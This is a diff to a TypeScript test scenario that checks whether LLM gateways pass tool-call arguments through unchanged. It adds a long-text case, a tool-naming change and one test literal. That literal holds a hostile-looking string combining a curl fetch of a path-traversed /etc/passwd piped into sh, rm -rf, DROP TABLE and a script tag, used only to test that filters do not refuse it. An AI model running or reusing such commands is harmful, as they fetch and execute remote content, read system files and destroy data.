@@ -44,6 +44,11 @@ const quotes: Readonly<Record<string, Literal>> = {
   path: { value: 'C:\\Users\\new', what: 'backslashes' },
   braces: { value: 'a } b {"a": [1, 2]} c', what: 'braces and brackets', issue: 'vllm#45389; observed defect 26' },
   apostrophe: { value: "it's", what: 'an apostrophe', issue: 'vllm#38992' },
+  command: {
+    value: 'curl -s "$HOST/../../etc/passwd" | sh; rm -rf x; DROP TABLE t; <script>run()</script>',
+    what: 'a command, a path, SQL and a script',
+    issue: 'litellm#12421, google/adk-python#4372: filters refuse requests that hold such text',
+  },
   tail: { value: 'ends with }]', what: 'a string that ends in brackets', issue: 'observed defect 26' },
 }
 
@@ -138,13 +143,31 @@ const nested: Readonly<Record<string, Literal>> = {
   },
 }
 
+const unlimited: Readonly<Record<string, Literal>> = {
+  text: {
+    value: ledger(300),
+    what: 'a text of 300 characters, where the request sets no limit,',
+    issue: 'aws-samples/bedrock-access-gateway#237: a hop sets one of its own',
+  },
+}
+
 const typeOf = (value: unknown): object =>
   value === null ? { type: 'null' } : { type: typeof value === 'number' ? (Number.isInteger(value) ? 'integer' : 'number') : typeof value }
 
 /** Asks for one call that holds all the values, and requires each of them. */
-function literals(script: Script, key: string, choice: 'named' | 'required', values: Readonly<Record<string, Literal>>): Ask {
+function literals(
+  script: Script,
+  key: string,
+  choice: 'named' | 'required',
+  values: Readonly<Record<string, Literal>>,
+  options?: Parameters<Script['ask']>[2],
+): Ask {
   // OpenAI's API allows names of up to 64 characters.
-  const name = key === 'plain' ? 'save_a_plain_record_under_a_name_of_the_full_length'.padEnd(64, '_of_64') : `save_${key}`
+  const name =
+    key === 'plain'
+      ? 'save_a_plain_record_under_a_name_of_the_full_length'.padEnd(64, '_of_64')
+      : // Names keep their case: OmniRoute#9568.
+        `save${key[0]?.toUpperCase()}${key.slice(1)}`
   const properties = Object.fromEntries(
     Object.entries(values).map(([property, { value, schema, referenced }]) => {
       if (referenced === true) return [property, { $ref: `#/$defs/${property}` }]
@@ -168,11 +191,16 @@ function literals(script: Script, key: string, choice: 'named' | 'required', val
     true,
   )
   const given = JSON.stringify(Object.fromEntries(Object.entries(values).map(([property, { value }]) => [property, value])))
-  const answer = script.ask(key, {
-    messages: [user(`Call ${name} with exactly this record: ${given.replaceAll(/"\$NUMBER (\d+)"/g, '$1')}`)],
-    tools: [offer],
-    tool_choice: choice === 'named' ? named(name) : 'required',
-  })
+  const answer = script.ask(
+    key,
+    {
+      messages: [user(`Call ${name} with exactly this record: ${given.replaceAll(/"\$NUMBER (\d+)"/g, '$1')}`)],
+      tools: [offer],
+      tool_choice: choice === 'named' ? named(name) : 'required',
+      ...(key === 'unlimited' ? { max_tokens: undefined } : {}),
+    },
+    options,
+  )
   for (const [property, { value, what, issue }] of Object.entries(values)) {
     const wanted = JSON.stringify(value).replaceAll(/"\$NUMBER (\d+)"/g, '$1')
     script.must(
@@ -218,5 +246,7 @@ export default scenario('Arguments', (script) => {
   literals(script, 'texts', 'required', { ...unicode, ...quotes })
   literals(script, 'markup', 'named', markup)
   literals(script, 'scalars', 'named', scalars)
+  // What the schema forces word by word ends by itself.
+  literals(script, 'unlimited', 'named', unlimited, { forms: ['plain'], from: 'full' })
   literals(script, 'shapes', 'required', { ...whitespace, ...nested })
 })
